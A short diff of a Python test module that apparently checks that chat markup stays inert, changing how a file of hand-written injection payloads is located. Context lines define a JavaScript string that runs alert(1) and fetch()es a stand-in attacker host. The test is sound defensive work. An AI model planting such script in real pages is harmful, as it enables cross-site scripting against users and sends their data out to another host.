@@ -31,6 +31,7 @@ from memory_store.ledger.database.schema import turns
 from memory_store.ledger.entries import save_entry
 from memory_store.ledger.ledger import Ledger
 from memory_store.turns.turn_store import LedgerTurnStore
+from tests.marks import ROOT
 from tests.support.memory.loop import reply
 from tests.support.memory.store import clarification
 from tests.support.servers.chat_server import ChatServer
@@ -43,7 +44,7 @@ pytestmark = pytest.mark.promise("markup-is-inert")
 # dialog, a mark, a request elsewhere, or a change of the address.
 ELSEWHERE = "https://attacker.test"
 ACT = f"window.wasRun=1;alert(1);fetch('{ELSEWHERE}/run')"
-PAYLOADS = tomllib.loads(Path("tests/support/texts/payloads.toml").read_text(encoding="utf-8"))["by_hand"]
+PAYLOADS = tomllib.loads((ROOT / "tests/support/texts/payloads.toml").read_text(encoding="utf-8"))["by_hand"]
 TEXTS = [text.replace("ACT", ACT).replace("ELSEWHERE", ELSEWHERE) for text in PAYLOADS]
 
 # What the parts of the page are made of; whatever else stands in them came from a text.
